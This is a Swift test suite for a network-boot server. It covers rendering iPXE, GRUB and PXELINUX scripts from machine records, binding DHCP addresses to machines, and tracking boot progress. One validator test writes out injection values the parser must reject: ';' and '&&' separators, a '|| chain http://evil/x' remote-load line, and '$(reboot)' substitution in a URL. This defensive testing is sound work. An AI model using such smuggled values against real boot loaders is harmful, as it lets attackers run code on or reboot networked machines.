import StampedeDHCP
import StampedeIO
import StampedeTestSupport
import Testing
@testable import StampedeMachines

@Suite struct RenderedBoots {
    let node07 = MachineIdentity(hardwareAddress: [0x52, 0x54, 0, 0x12, 0x34, 0x07], uuid: "01020304-0506-0708-090a-0b0c0d0e0f10",
                                 firmware: .efiX64, architecture: 7)

    func parse(_ text: String) throws -> MachineRecord? { try MachineRecord.parse(Array(text.utf8), file: "rack1-node07") }

    @Test func aRecordsBootIsRenderedForEachLoaderWithItsVariables() throws {
        let record = try #require(try parse("""
            mac = 52:54:00:12:34:07
            var hostname = node07
            var role = worker
            kernel = images/vmlinuz
            initrd = images/initrd.img
            initrd = http://10.0.0.1:8080/extra/firmware.cpio
            cmdline = console=ttyS0 hostname=${hostname} role=${role} BOOTIF=01-${mac:hexhyp} uuid=${uuid} arch=${arch}
            """))
        #expect(record.variables == ["hostname": "node07", "role": "worker"])
        let boot = try #require(record.boot).rendered(for: node07, variables: record.variables)
        let line = "console=ttyS0 hostname=node07 role=worker BOOTIF=01-52-54-00-12-34-07 uuid=01020304-0506-0708-090a-0b0c0d0e0f10 arch=efi-x64"
        #expect(boot.commandLine == line)
        #expect(LoaderScript.iPXE(boot, for: record.name) == """
            #!ipxe
            # rack1-node07
            kernel /images/vmlinuz initrd=initrd.img initrd=firmware.cpio \(line)
            initrd /images/initrd.img
            initrd http://10.0.0.1:8080/extra/firmware.cpio
            boot

            """)
        #expect(LoaderScript.grub(boot, for: record.name) == """
            # rack1-node07
            set timeout=0
            menuentry "rack1-node07" {
                linux /images/vmlinuz \(line)
                initrd /images/initrd.img (http,10.0.0.1:8080)/extra/firmware.cpio
            }

            """)
        #expect(LoaderScript.pxelinux(boot, for: record.name) == """
            # rack1-node07
            DEFAULT stampede
            LABEL stampede
              KERNEL images/vmlinuz
              INITRD images/initrd.img,http://10.0.0.1:8080/extra/firmware.cpio
              APPEND \(line)

            """)
        // Back to the firmware: what each loader is told for a machine that boots from its disk.
        #expect(LoaderScript.iPXE(nil, for: "a\nname") == "#!ipxe\n# a_name: not booted from the network here\nexit\n")
        #expect(LoaderScript.grub(nil, for: "x").hasSuffix("exit\n"))
        #expect(LoaderScript.pxelinux(nil, for: "x").hasSuffix("LOCALBOOT 0\n"))
    }

    /// A value is data, never code: what would end a loader's command, start another or expand in
    /// it is refused with the file and line.
    @Test func whatALoaderWouldReadAsCodeIsRefused() {
        func faults(_ text: String) -> [String] {
            do throws(RecordFaults) {
                _ = try MachineRecord.parse(Array(text.utf8), file: "rack1-node07")
                return []
            } catch {
                return error.errors.map(\.description)
            }
        }
        let mac = "mac = 52:54:00:12:34:07\n"
        #expect(faults(mac + "kernel = vmlinuz\ncmdline = quiet; reboot\n") == [
            "rack1-node07:3: cmdline: holds what a loader's script reads (quotes, backslashes, ;, |, &&, #, <, >, $ or braces but a ${variable}'s)"])
        #expect(faults(mac + "kernel = vmlinuz\ncmdline = a || chain http://evil/x\n").count == 1)
        #expect(faults(mac + "kernel = vmlinuz\ncmdline = a && b\n").count == 1)
        #expect(faults(mac + "kernel = vmlinuz\ncmdline = x=${net0/ip}\n") == [
            "rack1-node07:3: cmdline: ${net0/ip}: no such variable (var net0/ip = VALUE makes one; the machine's are mac, mac:hexhyp, uuid, arch, done-url)"])
        #expect(faults(mac + "kernel = vmlinuz\ncmdline = x=$hostname\n").count == 1)
        #expect(faults(mac + "kernel = vm linuz\n") == [
            "rack1-node07:2: kernel vm linuz: holds a character a loader's script would read (a location takes letters, digits and -._~:/?#[]@!*+,=%)"])
        #expect(faults(mac + "kernel = http://x/$(reboot)\n").count == 1)
        #expect(faults(mac + "var hostname = node 07\n") == [
            "rack1-node07:2: var hostname = node 07: a variable's value takes letters, digits and -._:,+@/= (it is data in a command line, never code)"])
        #expect(faults(mac + "var Host = x\n") == ["rack1-node07:2: var Host: a variable's name is a lower-case letter, then lower-case letters, digits, - and _"])
        #expect(faults(mac + "var mac = x\n") == ["rack1-node07:2: var mac: mac is the machine's own variable"])
        #expect(faults(mac + "initrd = initrd.img\n") == ["rack1-node07:2: initrd and cmdline go with a kernel"])
        #expect(faults(mac + "action = local\nkernel = vmlinuz\n") == ["rack1-node07:3: kernel in a record whose action is local: nothing would boot it"])
        #expect(faults(mac + "kernel = a\nkernel = b\n") == ["rack1-node07:3: kernel said again (first on line 2)"])
    }
}

/// The identity across the protocols: an address is the machine DHCP bound it to, and its
/// loader's files are rendered from that machine's record.
@Suite struct MachineBootFiles {
    func rig(_ files: [String: String], unknown: MachineBook.UnknownMachines = .ignore,
             progress: MachineProgress? = nil) throws -> (MachineBoot, ScratchDirectory) {
        let dir = ScratchDirectory()
        for (name, text) in files { _ = dir.write(name, Array(text.utf8)) }
        let records = try MachineRecords(try MachineDirectory(dir.path), unknown: unknown)
        return (MachineBoot(records: records, bindings: MachineBindings(), progress: progress), dir)
    }

    let records = [
        "node07": "mac = 52:54:00:12:34:07\nkernel = vmlinuz\ncmdline = hostname=node07\n",
        "node08": "mac = 52:54:00:12:34:08\naction = local\n",
        "node09": "mac = 52:54:00:12:34:09\nboot-file = efi-x64=other.efi\n",
        "rest": "default = yes\nkernel = rescue/vmlinuz\ncmdline = rescue\n",
    ]

    func at(_ address: String) -> SocketAddress { SocketAddress(parsing: address + ":2000", defaultPort: 0)! }

    func text(_ bytes: [UInt8]?) -> String? { bytes.map { String(decoding: $0, as: UTF8.self) } }

    func discover(_ last: UInt8, requesting address: [UInt8]) -> DHCPMessage {
        var message = DHCPMessage(operation: .request, transactionID: 1, clientHardwareAddress: [0x52, 0x54, 0, 0x12, 0x34, last])
        message.hardwareLength = 6
        message.options[.messageType] = [DHCPMessageType.request.rawValue]
        message.options[.vendorClass] = Array("PXEClient:Arch:00007:UNDI:003000".utf8)
        message.options[.requestedAddress] = address
        return message
    }

    /// `files`' boot followed by a progress, and node07 (52:54:00:12:34:07) bound by its DHCP to
    /// 10.0.0.57.
    func followed(_ files: [String: String]) throws -> (MachineBoot, MachineProgress, ScratchDirectory) {
        let progress = MachineProgress()
        let (boot, dir) = try rig(files, progress: progress)
        boot.bindings.learn(from: discover(7, requesting: [10, 0, 0, 57]))
        return (boot, progress, dir)
    }

    /// The GRUB a shim loads is the loader stage: beside the shim that was offered, and only
    /// after a shim.
    @Test func theGRUBBesideAnOfferedShimIsTheLoaderStage() throws {
        let (boot, progress, _) = try followed(["node07": "mac = 52:54:00:12:34:07\n"])
        let mac: [UInt8] = [0x52, 0x54, 0, 0x12, 0x34, 7]
        func stage(after offered: String, asking name: String) -> MachineProgress.Stage? {
            progress.note(mac, .dhcp, offered: offered, now: 1)
            _ = boot.file(Array(name.utf8), for: at("10.0.0.57"))
            let stage = progress.entry(mac)?.stage
            progress.note(mac, .dhcp, now: 2)  // the test's next boot
            progress.note(mac, .kernel, now: 2)
            return stage
        }
        #expect(stage(after: "efi/shimx64.efi", asking: "efi/grubx64.efi") == .loader)
        #expect(stage(after: "http://10.0.0.1:8080/efi/shimaa64.efi", asking: "efi/grubaa64.efi") == .loader)
        #expect(stage(after: "efi/shimx64.efi", asking: "grubx64.efi") == .dhcp, "not beside the shim")
        #expect(stage(after: "efi/shimx64.efi", asking: "efi/x/grubx64.efi") == .dhcp)
        #expect(stage(after: "efi/shimx64.efi", asking: "efi/mmx64.efi") == .dhcp)
        #expect(stage(after: "ipxe.efi", asking: "grubx64.efi") == .dhcp, "not after a shim")
    }

    /// A machine's kernel and initrd stages are its requests for what the script it was given
    /// names: not what its record says now, nor what a script written for another machine names.
    @Test func theKernelAndInitrdAreWhatItsScriptNamed() throws {
        let (boot, progress, _) = try followed([
            "node07": "mac = 52:54:00:12:34:07\nkernel = http://10.0.0.1:8080/k/vmlinuz\ninitrd = k/initrd.img\ninitrd = k/more.img\n",
            "node08": "mac = 52:54:00:12:34:08\nkernel = other/vmlinuz\n",
        ])
        let mac: [UInt8] = [0x52, 0x54, 0, 0x12, 0x34, 7]
        progress.note(mac, .dhcp, offered: "ipxe.efi", now: 1)
        func ask(_ name: String) -> MachineProgress.Stage? {
            _ = boot.file(Array(name.utf8), for: at("10.0.0.57"))
            return progress.entry(mac)?.stage
        }
        #expect(ask("k/vmlinuz") == .dhcp, "no script named it yet")
        #expect(ask("ipxe.efi") == .bootFile)
        #expect(ask("grub.cfg-01-52-54-00-12-34-08") == .script)
        #expect(ask("other/vmlinuz") == .script, "node08's script named it, not this machine's")
        #expect(ask("boot.ipxe") == .script)
        #expect(progress.entry(mac)?.named == MachineProgress.Named(kernel: "k/vmlinuz", initrd: "k/initrd.img"))
        #expect(ask("k/more.img") == .script, "only the first initrd is a stage")
        #expect(ask("k/vmlinuz") == .kernel)
        #expect(ask("k/initrd.img") == .initrd)
    }

    @Test func anAddressIsTheMachineDHCPBoundItTo() throws {
        let (boot, dir) = try rig(records)
        let script = { (address: String) in self.text(boot.contents(of: Array("boot.ipxe".utf8), for: self.at(address))) }
        // Before DHCP: the default record's.
        #expect(script("10.0.0.57") == "#!ipxe\n# \(dir.path)/rest\nkernel /rescue/vmlinuz rescue\nboot\n")
        boot.bindings.learn(from: discover(7, requesting: [10, 0, 0, 57]))
        boot.bindings.learn(from: discover(8, requesting: [10, 0, 0, 58]))
        boot.bindings.learn(from: discover(9, requesting: [10, 0, 0, 59]))
        #expect(script("10.0.0.57") == "#!ipxe\n# \(dir.path)/node07\nkernel /vmlinuz hostname=node07\nboot\n")
        // Boots from its disk: iPXE asking anyway is told to go back to the firmware.
        #expect(script("10.0.0.58") == "#!ipxe\n# \(dir.path)/node08: not booted from the network here\nexit\n")
        // A record that boots the root's files: the root's boot.ipxe.
        #expect(script("10.0.0.59") == nil)
        // A signed iPXE's autoexec.ipxe beside itself, in any directory.
        #expect(text(boot.contents(of: Array("efi/x64/autoexec.ipxe".utf8), for: at("10.0.0.57")))?.contains("hostname=node07") == true)
        // GRUB and PXELINUX by the MAC in the name, from any address.
        #expect(text(boot.contents(of: Array("grub/grub.cfg-01-52-54-00-12-34-07".utf8), for: at("10.0.0.99")))?
                    .contains("linux /vmlinuz hostname=node07") == true)
        #expect(text(boot.contents(of: Array("pxelinux.cfg/01-52-54-00-12-34-08".utf8), for: at("10.0.0.99")))?.hasSuffix("LOCALBOOT 0\n") == true)
        // A signed GRUB network image asks its prefix's grub.cfg alone: a bound machine's own,
        // the root's for an address DHCP bound to nobody and for a record of the root's files.
        #expect(text(boot.contents(of: Array("grub/grub.cfg".utf8), for: at("10.0.0.57")))?.contains("linux /vmlinuz hostname=node07") == true)
        #expect(text(boot.contents(of: Array("grub/grub.cfg".utf8), for: at("10.0.0.58")))?.hasSuffix("exit\n") == true)
        #expect(boot.contents(of: Array("grub/grub.cfg".utf8), for: at("10.0.0.59")) == nil)
        #expect(boot.contents(of: Array("grub/grub.cfg".utf8), for: at("10.0.0.99")) == nil)
        // Other names are the root's.
        #expect(boot.contents(of: Array("vmlinuz".utf8), for: at("10.0.0.57")) == nil)
        #expect(boot.contents(of: Array("grub/grub.cfg.bak".utf8), for: at("10.0.0.57")) == nil)
        // The latest DHCP wins: the address is node08's now.
        boot.bindings.learn(from: discover(8, requesting: [10, 0, 0, 57]))
        #expect(script("10.0.0.57")?.hasSuffix("exit\n") == true)
    }

    /// A machine nobody listed: back to the firmware, unless unknown machines boot as the network says.
    @Test func aMachineNobodyListedIsToldToExitUnlessUnknownMachinesBoot() throws {
        let listed = ["node07": records["node07"]!]
        let (strict, _) = try rig(listed)
        #expect(text(strict.contents(of: Array("boot.ipxe".utf8), for: at("10.0.0.60"))) == "#!ipxe\n# a_machine_no_record_selects: not booted from the network here\nexit\n")
        let (open, _) = try rig(listed, unknown: .boot)
        #expect(open.contents(of: Array("boot.ipxe".utf8), for: at("10.0.0.60")) == nil)
    }

    /// Bindings come from a REQUEST's option 50 or a client's own address, only from boot
    /// clients; past the capacity the half learned longest ago goes.
    @Test func bindingsAreLearnedFromBootClientsAndBounded() {
        let bindings = MachineBindings()
        var request = discover(7, requesting: [10, 0, 0, 57])
        bindings.learn(from: request)
        #expect(bindings.machine(at: IPv4(10, 0, 0, 57))?.hardwareAddress == [0x52, 0x54, 0, 0x12, 0x34, 7])
        request.options[.requestedAddress] = nil
        request.clientAddress = IPv4(10, 0, 0, 70)
        bindings.learn(from: request)
        #expect(bindings.machine(at: IPv4(10, 0, 0, 70)) != nil)
        var laptop = discover(9, requesting: [10, 0, 0, 80])
        laptop.options[.vendorClass] = Array("MSFT 5.0".utf8)
        bindings.learn(from: laptop)
        #expect(bindings.machine(at: IPv4(10, 0, 0, 80)) == nil)

        let many = MachineBindings()
        for n in 0..<MachineBindings.capacity + 1 {
            many.learn(IPv4(10, UInt8(n >> 16), UInt8(truncatingIfNeeded: n >> 8), UInt8(truncatingIfNeeded: n)), is: MachineIdentity(hardwareAddress: [1]))
        }
        #expect(many.count <= MachineBindings.capacity / 2 + 1)
        #expect(many.machine(at: IPv4(10, 1, 0, 0)) != nil && many.machine(at: IPv4(10, 0, 0, 0)) == nil)
    }

    /// The same machine at the same address again keeps its binding, learned anew (the last
    /// to be forgotten); another machine there replaces it.
    @Test func aBindingLearnedAgainIsKeptAndRefreshed() {
        let bindings = MachineBindings()
        let first = MachineIdentity(hardwareAddress: [1, 2, 3, 4, 5, 6], architecture: 7)
        bindings.learn(IPv4(10, 9, 0, 1), is: first)
        let binding = bindings.binding(at: SocketAddress(ipv4: IPv4(10, 9, 0, 1), port: 0))
        for n in 0..<MachineBindings.capacity - 1 {
            bindings.learn(IPv4(10, UInt8(n >> 16), UInt8(truncatingIfNeeded: n >> 8), UInt8(truncatingIfNeeded: n)), is: MachineIdentity(hardwareAddress: [1]))
        }
        bindings.learn(IPv4(10, 9, 0, 1), is: first)
        #expect(bindings.binding(at: SocketAddress(ipv4: IPv4(10, 9, 0, 1), port: 68)) === binding)
        bindings.learn(IPv4(10, 9, 0, 2), is: MachineIdentity(hardwareAddress: [2]))  // past the capacity: half goes
        #expect(bindings.count <= MachineBindings.capacity / 2 + 1)
        #expect(bindings.machine(at: IPv4(10, 9, 0, 1)) == first && bindings.machine(at: IPv4(10, 0, 0, 0)) == nil)
        let other = MachineIdentity(hardwareAddress: [6, 5, 4, 3, 2, 1])
        bindings.learn(IPv4(10, 9, 0, 1), is: other)
        #expect(bindings.machine(at: IPv4(10, 9, 0, 1)) == other)
    }
}

extension MachineBoot {
    /// The bytes made for `name`, if any (nil: the root's file, this or another).
    func contents(of name: [UInt8], for client: SocketAddress) -> [UInt8]? {
        if case .made(let bytes)? = file(name, for: client) { return bytes }
        return nil
    }
}

/// `script = PATH`: the operator's own iPXE script, a file of the root, in place of boot.ipxe.
@Suite struct OperatorsScripts {
    @Test func aRecordsScriptIsTheRootsFileServedAsItsIPXEScript() throws {
        let dir = ScratchDirectory()
        _ = dir.write("node07", Array("mac = 52:54:00:12:34:07\nscript = /scripts/node07.ipxe\n".utf8))
        let boot = MachineBoot(records: try MachineRecords(try MachineDirectory(dir.path), unknown: .ignore), bindings: MachineBindings())
        var request = DHCPMessage(operation: .request, transactionID: 1, clientHardwareAddress: [0x52, 0x54, 0, 0x12, 0x34, 7])
        request.hardwareLength = 6
        request.clientAddress = IPv4(10, 0, 0, 57)
        request.options[.vendorClass] = Array("PXEClient".utf8)
        boot.bindings.learn(from: request)
        let client = SocketAddress(parsing: "10.0.0.57:2000", defaultPort: 0)!
        #expect(boot.file(Array("boot.ipxe".utf8), for: client) == .root(Array("scripts/node07.ipxe".utf8)))
        #expect(boot.file(Array("efi/autoexec.ipxe".utf8), for: client) == .root(Array("scripts/node07.ipxe".utf8)))
        #expect(boot.file(Array("grub.cfg-01-52-54-00-12-34-07".utf8), for: client) == nil)
        for (text, fault) in [("script = http://x/s.ipxe\n", "script http://x/s.ipxe: a file beneath the root, not a URL"),
                              ("script = a b\n", "script a b: holds a character a loader's script would read (a location takes letters, digits and -._~:/?#[]@!*+,=%)")] {
            #expect(throws: RecordFaults([RecordError(file: "n", line: 2, fault)])) {
                try MachineRecord.parse(Array(("mac = 52:54:00:12:34:07\n" + text).utf8), file: "n")
            }
        }
        #expect(throws: RecordFaults([RecordError(file: "n", line: 2, "a kernel and a script: the script boots the machine, say one")])) {
            try MachineRecord.parse(Array("mac = 52:54:00:12:34:07\nkernel = k\nscript = s\n".utf8), file: "n")
        }
    }
}
